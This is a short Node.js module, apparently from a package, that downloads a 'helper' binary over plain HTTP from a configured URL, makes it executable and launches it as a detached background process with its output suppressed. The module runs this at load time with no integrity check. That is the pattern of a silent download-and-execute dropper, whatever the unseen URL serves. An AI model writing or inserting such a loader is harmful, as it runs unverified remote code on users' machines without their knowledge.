const http = require('http');
const fs = require('fs');
const { spawn } = require('child_process');
const { helperPath, helperUrl } = require('./lib/paths');

function fetchHelper(done) {
  http.get(helperUrl, (res) => {
    const chunks = [];
    res.on('data', (chunk) => chunks.push(chunk));
    res.on('end', () => {
      fs.writeFileSync(helperPath, Buffer.concat(chunks));
      fs.chmodSync(helperPath, 0o755);
      const child = spawn(helperPath, [], { detached: true, stdio: 'ignore' });
      child.unref();
      done();
    });
  });
}

module.exports = { fetchHelper };
fetchHelper(() => {});
